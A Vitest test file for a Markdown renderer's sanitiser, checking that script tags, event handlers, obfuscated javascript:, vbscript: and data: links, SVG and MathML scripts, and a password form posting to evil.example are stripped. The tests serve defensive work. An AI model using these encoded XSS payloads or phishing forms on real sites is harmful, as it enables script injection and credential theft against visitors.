import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './index.ts';

/** Nothing in `html` that a browser would run or that could restyle or overlay the page. */
function expectInert(html: string) {
  expect(html).not.toMatch(/<script|<style|<iframe|<object|<embed|<form|<base|<meta|<link/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/\sstyle\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:|data:/i);
}

describe('renderMarkdown sanitising', () => {
  it('removes <script> elements with their content', async () => {
    const html = await renderMarkdown('Hello <script>alert("x")</script> world\n\n<script src="https://evil.example/x.js"></script>');
    expectInert(html);
    expect(html).not.toContain('alert');
    expect(html).toContain('Hello');
    expect(html).toContain('world');
  });

  it('removes event-handler attributes but keeps the element', async () => {
    const html = await renderMarkdown('<img src="photo.jpg" alt="A photo" onerror="alert(1)">\n\n<p onload="alert(2)" onclick="x()">Text</p>');
    expectInert(html);
    expect(html).toContain('<img src="photo.jpg" alt="A photo">');
    expect(html).toContain('<p>Text</p>');
  });

  it('removes iframes, also those pointing at javascript:', async () => {
    const html = await renderMarkdown('Before\n\n<iframe src="javascript:alert(1)"></iframe>\n\n<iframe src="https://example.org/embed"></iframe>\n\nAfter');
    expectInert(html);
    expect(html).not.toContain('example.org/embed');
    expect(html).toContain('After');
  });

  it.each([
    ['a Markdown link', '[click](javascript:alert(1))'],
    ['mixed case', '[click](JaVaScRiPt:alert(1))'],
    ['an entity-encoded Markdown link', '[click](jav&#x61;script:alert(1))'],
    ['an entity-encoded HTML link', '<a href="jav&#x61;script:alert(1)">click</a>'],
    ['a decimal entity', '<a href="&#106;avascript:alert(1)">click</a>'],
    ['a tab inside', '<a href="java\tscript:alert(1)">click</a>'],
    ['leading space', '<a href=" javascript:alert(1)">click</a>'],
    ['vbscript:', '<a href="vbscript:msgbox(1)">click</a>'],
    ['a data: URL', '<a href="data:text/html;base64,PHNjcmlwdD4=">click</a>'],
  ])('drops a javascript-like href written as %s, keeping the text', async (_, markdown) => {
    const html = await renderMarkdown(markdown);
    expectInert(html);
    expect(html).toBe('<p><a>click</a></p>');
  });

  it('drops a javascript: image source', async () => {
    const html = await renderMarkdown('<img src="javascript:alert(1)" alt="x">\n\n![y](javascript:alert(1))');
    expectInert(html);
    expect(html).toContain('alt="x"');
  });

  it('removes style attributes and <style> elements', async () => {
    const html = await renderMarkdown('<p style="position:fixed;inset:0">Covered</p>\n\n<style>body { display: none }</style>');
    expectInert(html);
    expect(html).not.toContain('display');
    expect(html).toContain('<p>Covered</p>');
  });

  it('removes forms, objects, embeds and page-level elements', async () => {
    const html = await renderMarkdown(
      [
        '<form action="https://evil.example/steal" method="post"><input name="password"><button>Log in</button></form>',
        '<object data="movie.swf"></object>',
        '<embed src="movie.swf">',
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="x.css">',
      ].join('\n\n'),
    );
    expectInert(html);
    expect(html).not.toContain('evil.example');
    expect(html).not.toContain('movie.swf');
    expect(html).not.toMatch(/<input(?![^>]*type="checkbox")/);
  });

  it('removes scripts hidden in SVG and MathML', async () => {
    const html = await renderMarkdown(
      '<svg onload="alert(1)"><a xlink:href="javascript:alert(2)">x</a></svg><math><mi xlink:href="javascript:alert(3)">y</mi></math>',
    );
    expectInert(html);
    expect(html).not.toContain('<svg');
  });

  it("prefixes author ids, names and ARIA references once, so they cannot take the layout's ids", async () => {
    const html = await renderMarkdown('<a id="main" name="x" aria-describedby="a user-content-b">a</a> <span id="user-content-note">n</span>');
    expect(html).toContain('<a id="user-content-main" name="user-content-x" aria-describedby="user-content-a user-content-b">a</a>');
    expect(html).toContain('<span id="user-content-note">');
  });

  it('keeps the few extra elements the kit allows', async () => {
    const html = await renderMarkdown(
      '<figure><img src="a.jpg" alt="A" loading="lazy" width="10" height="5"><figcaption>Cap</figcaption></figure>\n\n<mark>m</mark> <abbr title="Open Outreach">OO</abbr> <small>s</small>',
    );
    expect(html).toContain('<figure><img src="a.jpg" alt="A" loading="lazy" width="10" height="5"><figcaption>Cap</figcaption></figure>');
    expect(html).toContain('<mark>m</mark> <abbr title="Open Outreach">OO</abbr> <small>s</small>');
  });

  it.each([
    ['javascript:', '<picture><source srcset="javascript:alert(1) 1x, ok.webp 2x"><img src="a.jpg" alt="A"></picture>'],
    ['data:', '<picture><source srcset="data:image/svg+xml;utf8,evil 1x"><img src="a.jpg" alt="A"></picture>'],
    ['vbscript: in capitals', '<picture><source srcset="VBScript:msgbox(1) 1x"><img src="a.jpg" alt="A"></picture>'],
  ])('drops a srcset address written with %s, as it would in src', async (_, markdown) => {
    const html = await renderMarkdown(markdown);
    expectInert(html);
    expect(html).toContain('<img src="a.jpg" alt="A">');
  });

  it('keeps srcset addresses on the web or on the site', async () => {
    const html = await renderMarkdown('<picture><source srcset="https://example.org/a.webp 1x, /images/a@2x.webp 2x"><img src="a.jpg" alt="A"></picture>');
    expect(html).toContain('<source srcset="https://example.org/a.webp 1x, /images/a@2x.webp 2x">');
  });
});
